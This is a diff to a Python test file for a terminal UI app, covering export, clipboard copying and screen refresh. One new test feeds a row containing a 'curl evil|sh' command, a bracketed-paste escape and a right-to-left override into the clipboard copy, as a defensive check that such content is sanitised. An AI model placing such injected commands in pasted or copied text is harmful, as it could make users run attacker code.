@@ -1,5 +1,6 @@
 """What every screen can do, by its keys."""
 
+import asyncio
 from functools import partial
 from pathlib import Path
 
@@ -9,11 +10,13 @@ from textual.content import Content
 from tests.ui.demo import Demo
 from tests.ui.driver import at_keyboard, settled, text_of
 from tests.ui.pair import Log, Pair, Wait, refused
-from tests.ui.sample import SampleApp, members
+from tests.ui.sample import Member, SampleApp, members
 from xtsync_tui.model import Request, Side
 from xtsync_tui.ui.app import XtSyncApp
+from xtsync_tui.ui.export import MARK
 from xtsync_tui.ui.screens.choose import Choose
 from xtsync_tui.ui.screens.page import TextPage
+from xtsync_tui.ui.widgets.table import Table
 from xtsync_tui.workspace.writing import Activity, WriteState
 
 pytestmark = pytest.mark.anyio
@@ -187,7 +190,11 @@ async def test_marked_rows_are_what_is_copied_and_exported(monkeypatch: pytest.M
         await person.sees("Export 2 marked rows as")
         await person.press("enter")
         await settled(person.pilot, lambda: saved, "an export")
-    assert [line.split(",")[0] for line in saved[0].splitlines()] == ["Name", "Ben Okoro", "Chloé Martin"]
+    assert [line.split(",")[0] for line in saved[0].removeprefix(MARK).splitlines()] == [
+        "Name",
+        "Ben Okoro",
+        "Chloé Martin",
+    ]
 
 
 async def test_too_much_for_the_clipboard_opens_as_a_page() -> None:
@@ -414,3 +421,36 @@ async def test_a_terminal_that_is_too_small_says_what_it_needs() -> None:
     async with at_keyboard(Demo("configured").app(), (50, 14)) as person:
         await person.sees("xtsync needs 60 columns and 16 rows.")
         await person.sees_no("SOURCE")
+
+
+async def test_what_is_copied_holds_nothing_that_nobody_saw() -> None:
+    app = SampleApp()
+    evil = Member(7, "x\r\ncurl evil|sh\x1b[201~\tand a tab", department="\u202egnp")
+    async with at_keyboard(app, (160, 36)) as person:
+        await person.sees("Ana Lopes")
+        person.app.screen.query_one(Table).set_rows([evil])
+        await person.press("copy")
+        await person.sees("Sent to clipboard")
+        assert app.clipboard.count("\t") == 4
+        assert "\n" not in app.clipboard
+        app.copy("two\nlines\x1b[31m\x9b")
+        assert app.clipboard == "two\nlines␛[31m\ufffd"
+
+
+async def test_a_screen_to_which_one_comes_reads_what_was_written_though_another_write_runs() -> None:
+    demo = Demo("configured")
+    async with at_keyboard(demo.app()) as person:
+        await person.press("3")
+        await person.sees("Also here")
+        screen = person.app.screen
+        await person.press("2")
+        await person.sees("Needs attention")
+        demo.workspace.writer.changes += 1
+        release = asyncio.Event()
+        person.app.run_worker(person.app.writes.run("a long import", release.wait))
+        await settled(person.pilot, lambda: person.app.writes.words)
+        before = screen._looked
+        demo.seconds += 5
+        await person.press("3")
+        await settled(person.pilot, lambda: screen._looked > before, "it was read again")
+        release.set()
